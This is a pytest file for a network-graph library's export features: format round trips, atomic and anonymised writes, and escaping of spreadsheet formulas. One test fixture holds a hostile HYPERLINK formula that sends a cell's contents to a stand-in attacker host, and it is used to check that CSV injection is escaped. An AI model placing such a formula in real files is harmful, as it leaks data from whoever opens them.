"""Export: the CSV round trip loses nothing; GraphML, GEXF and JSON are readable."""

from __future__ import annotations

import csv
import importlib
import json
import os
from pathlib import Path

import networkx as nx
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import netgraph
from netgraph.io.export import atomic_write, spreadsheet_safe

export_module = importlib.import_module("netgraph.io.export")

#: Provenance: a re-loaded export says it came from the canonical tables; the evidence of an inferred tie
#: is recomputed from them, in words that name the (pseudonymised) employers.
PROVENANCE = {"sources", "evidence"}


def same_graph(G, H):
    assert set(G.nodes) == set(H.nodes)
    assert set(G.edges) == set(H.edges)
    for n in G:
        a = {k: v for k, v in G.nodes[n].items() if k not in PROVENANCE}
        b = {k: v for k, v in H.nodes[n].items() if k not in PROVENANCE}
        assert a == b, n
    for u, v in G.edges:
        a = {k: v for k, v in G[u][v].items() if k not in PROVENANCE}
        b = {k: v for k, v in H[u][v].items() if k not in PROVENANCE}
        assert a.keys() == b.keys(), (u, v)
        for key in a:
            assert a[key] == pytest.approx(b[key]) if isinstance(a[key], float) else a[key] == b[key], (u, v, key)
    for key in ("me", "today", "targets", "introductions"):
        assert G.graph[key] == H.graph[key]


def test_csv_round_trip_of_the_demo(demo, tmp_path):
    written = netgraph.export(demo, tmp_path / "out", format="csv")
    assert {p.name for p in written} == {"people.csv", "interactions.csv", "ties.csv", "introductions.csv",
                                         "companies.csv", "netgraph.toml"}
    again = netgraph.load(tmp_path / "out")
    assert netgraph.summary(again.graph).to_dict() == netgraph.summary(demo.graph).to_dict()
    same_graph(demo.graph, again.graph)
    assert again.report.ok and not again.report.problems


@pytest.mark.parametrize("fmt, reader", [("graphml", nx.read_graphml), ("gexf", nx.read_gexf)])
def test_graphml_and_gexf(demo, tmp_path, fmt, reader):
    path = tmp_path / f"net.{fmt}"
    netgraph.export(demo, path, format=fmt)
    H = reader(path)
    assert set(H.nodes) == set(demo.graph.nodes)
    assert H.number_of_edges() == demo.graph.number_of_edges()
    u, v = next(iter(demo.graph.edges))
    assert H[u][v]["strength"] == pytest.approx(demo.graph[u][v]["strength"])
    # the counts the graph holds only where not zero are in the file on every edge, 0 where absent
    assert all(int(H[a][b]["asks"]) == demo.graph[a][b].get("asks", 0) for a, b in demo.graph.edges)


def test_json_node_link(demo, tmp_path):
    path = tmp_path / "net.json"
    netgraph.export(demo, path, format="json")
    data = json.loads(path.read_text())
    H = nx.node_link_graph(data, edges="edges")
    assert H.number_of_edges() == demo.graph.number_of_edges()
    assert data["graph"]["me"] == demo.me
    assert isinstance(H.nodes[demo.me]["emails"], list)
    assert all(edge["gives"] == demo.graph[edge["source"]][edge["target"]].get("gives", 0) for edge in data["edges"])
    assert any("gives" not in d for *_, d in demo.graph.edges(data=True)), "the export left the graph as it was"


def test_wrong_targets(demo, tmp_path):
    with pytest.raises(netgraph.NetgraphError, match="unknown format"):
        netgraph.export(demo, tmp_path / "x", format="xlsx")
    (tmp_path / "file").write_text("x")
    with pytest.raises(netgraph.NetgraphError, match="writes a folder"):
        netgraph.export(demo, tmp_path / "file", format="csv")
    with pytest.raises(netgraph.NetgraphError, match="writes a file"):
        netgraph.export(demo, tmp_path, format="json")


def test_atomic_write_never_leaves_half_a_file(tmp_path, monkeypatch):
    path = tmp_path / "good.csv"
    path.write_text("good")

    def interrupted(*args):
        raise KeyboardInterrupt

    monkeypatch.setattr(os, "replace", interrupted)
    with pytest.raises(KeyboardInterrupt):
        atomic_write(path, "a new text, interrupted before it was in place")
    assert path.read_text() == "good"
    assert [p.name for p in tmp_path.iterdir()] == ["good.csv"]


def test_spreadsheet_formulas_are_escaped():
    assert spreadsheet_safe("=HYPERLINK(1)") == "'=HYPERLINK(1)"
    for start in "+-@\t\r":
        assert spreadsheet_safe(start + "x").startswith("'")
    assert spreadsheet_safe("Mary") == "Mary"


def test_formula_like_cells_survive_the_round_trip(tmp_path):
    people = pd.DataFrame({"name": ["Jane Jones", "=Evil Person"], "title": ["-", "+1 boss"],
                           "phone": ["", "+1 617 555 0100"]})
    interactions = pd.DataFrame({"date": ["2026-01-01"], "from": ["Jane Jones"], "to": ["=Evil Person"],
                                 "note": ["@lunch"]})
    G = netgraph.build_graph(people, interactions, me="Jane Jones", today="2026-02-01")
    net = netgraph.load(_write(tmp_path, people, interactions), today="2026-02-01")
    netgraph.export(net, tmp_path / "out", format="csv")
    assert "'=Evil Person" in (tmp_path / "out" / "people.csv").read_text()
    again = netgraph.load(tmp_path / "out")
    assert sorted(again.people["name"]) == sorted(G.nodes[n]["name"] for n in G)
    assert again.interactions["note"].tolist() == ["@lunch"]


def _write(folder, people, interactions):
    people.to_csv(folder / "people.csv", index=False)
    interactions.to_csv(folder / "interactions.csv", index=False)
    (folder / "netgraph.toml").write_text('me = "Jane Jones"\n')
    return folder


people_names = st.lists(st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), min_size=1,
                                max_size=12).filter(lambda s: s.strip() and s.strip().lower() != "me"),
                        min_size=2, max_size=8, unique_by=lambda s: s.strip().casefold())


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(people_names, st.lists(st.tuples(st.integers(0, 7), st.integers(0, 7), st.integers(0, 1500)), max_size=30),
       st.lists(st.tuples(st.integers(0, 7), st.integers(0, 7), st.one_of(st.none(), st.floats(0, 1))), max_size=10))
@pytest.mark.slow
def test_round_trip_of_random_networks(tmp_path_factory, names, contacts, known):
    folder = tmp_path_factory.mktemp("net")
    n = len(names)
    ids = [f"p{i}" for i in range(n)]
    people = pd.DataFrame({"id": ids, "name": names})
    interactions = pd.DataFrame([(str(pd.Timestamp("2022-01-01") + pd.Timedelta(days=d))[:10], ids[a % n], ids[b % n])
                                 for a, b, d in contacts if a % n != b % n], columns=["date", "from", "to"])
    ties = pd.DataFrame([(ids[a % n], ids[b % n], s) for a, b, s in known if a % n != b % n],
                        columns=["a", "b", "strength"])
    net = netgraph.load(_tables(folder / "in", people, interactions, ties), me="p0", today="2026-11-01")
    netgraph.export(net, folder / "out", format="csv")
    again = netgraph.load(folder / "out")
    same_graph(net.graph, again.graph)


def _tables(folder, people, interactions, ties):
    folder.mkdir()
    people.to_csv(folder / "people.csv", index=False)
    interactions.to_csv(folder / "interactions.csv", index=False)
    ties.to_csv(folder / "ties.csv", index=False)
    return folder


FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "privacy"
#: The column a hostile file adds (tests/fixtures/privacy/network/interactions.csv), as the reader names it.
FORMULA_COLUMN = '=hyperlink("http://evil.example/?leak="&b2,"x")'


def test_column_names_a_spreadsheet_would_run_are_escaped(tmp_path):
    net = netgraph.load(FIXTURES / "network")
    assert FORMULA_COLUMN in net.interactions
    netgraph.export(net, tmp_path / "out", format="csv")
    for path in (tmp_path / "out").glob("*.csv"):
        with open(path, newline="", encoding="utf-8") as handle:
            header = next(csv.reader(handle))
        assert not [name for name in header if name.startswith(("=", "+", "-", "@", "\t", "\r"))], path.name
    header = (tmp_path / "out" / "interactions.csv").read_text().splitlines()[0]
    assert "'=hyperlink(" in header
    again = netgraph.load(tmp_path / "out")
    assert again.interactions[FORMULA_COLUMN].tolist() == net.interactions[FORMULA_COLUMN].tolist()


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in folder.iterdir()}


def test_an_interrupted_anonymised_export_leaves_the_plain_one_whole(demo, tmp_path, monkeypatch):
    """Never anonymous files beside real-name ones: the folder is the old set or the new one."""
    out = tmp_path / "out"
    netgraph.export(demo, out, format="csv")
    before = _snapshot(out)
    written = []

    def fails_at_the_third_file(path, data):
        if len(written) == 2:
            raise KeyboardInterrupt
        written.append(path)
        atomic_write(path, data)

    monkeypatch.setattr(export_module, "atomic_write", fails_at_the_third_file)
    with pytest.raises(KeyboardInterrupt):
        netgraph.export(demo, out, format="csv", anonymize=True)
    assert len(written) == 2 and _snapshot(out) == before
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no temporary folder left


def test_an_export_interrupted_at_the_swap_puts_the_old_folder_back(demo, tmp_path, monkeypatch):
    out = tmp_path / "out"
    netgraph.export(demo, out, format="csv")
    before = _snapshot(out)

    class Os:  # the os module as the export sees it: moving the new folder into place fails
        def __getattr__(self, name):
            return getattr(os, name)

        @staticmethod
        def replace(source, destination):
            if Path(source).is_dir() and str(source).endswith(".tmp"):
                raise KeyboardInterrupt
            os.replace(source, destination)

    monkeypatch.setattr(export_module, "os", Os())
    with pytest.raises(KeyboardInterrupt):
        netgraph.export(demo, out, format="csv", anonymize=True)
    assert _snapshot(out) == before
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


def test_an_export_replaces_a_previous_one_whole_and_nothing_else(demo, tmp_path):
    out = tmp_path / "out"
    netgraph.export(demo, out, format="csv")
    netgraph.export(demo, out, format="csv", anonymize=True, salt="x")
    assert "Jane Jones" not in "".join(p.read_text() for p in out.iterdir())
    (out / "my notes.txt").write_text("mine")
    with pytest.raises(netgraph.NetgraphError, match=r"holds files that are not this export's \(my notes.txt\)"):
        netgraph.export(demo, out, format="csv")
    assert (out / "my notes.txt").read_text() == "mine"
